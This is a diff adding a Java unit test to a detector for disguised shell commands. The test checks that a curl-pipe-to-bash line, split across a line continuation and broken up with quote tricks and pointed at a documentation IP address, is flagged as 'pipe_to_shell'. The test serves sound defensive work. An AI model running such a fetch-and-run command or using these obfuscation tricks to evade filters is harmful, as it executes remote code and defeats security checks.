@@ -77,4 +77,11 @@ class DisguisedCommandTest {
     fixture.body(fixture.inbound("h.example"), text);
     assertEquals(List.of(), fixture.patterns());
   }
+
+  @Test
+  void wordsThatGoOnInTheNextLineAreRead() {
+    DetectorFixture fixture = new DetectorFixture();
+    fixture.body(fixture.inbound("h.example"), "cu\\\nrl -s http://198.51.100.20/g | b'a'sh\n");
+    assertEquals(List.of("pipe_to_shell"), fixture.patterns());
+  }
 }
